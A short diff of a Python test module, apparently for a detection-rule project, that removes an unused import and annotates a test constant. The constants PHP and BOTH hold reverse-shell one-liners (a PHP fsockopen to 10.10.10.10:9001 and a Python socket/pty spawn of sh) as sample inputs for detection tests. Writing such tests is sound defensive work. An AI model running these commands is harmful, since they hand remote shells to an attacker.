@@ -5,7 +5,6 @@ test reads through conftest.rule_ids is validated too: the seed cases, sequences
 from __future__ import annotations
 
 import copy
-from pathlib import Path
 from typing import Any
 
 import jsonschema
@@ -23,7 +22,7 @@ from test_formats import run_lines
 
 EXAMPLES = ROOT / "examples"
 PHP = "php -r '$s=fsockopen(\"10.10.10.10\",9001);'"
-BOTH = PHP + " ; python -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'"
+BOTH = PHP + " ; python -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'"  # noqa: E501  a verbatim command line
 
 
 def _alerts(docs: list[dict[str, Any]]) -> list[dict[str, Any]]:
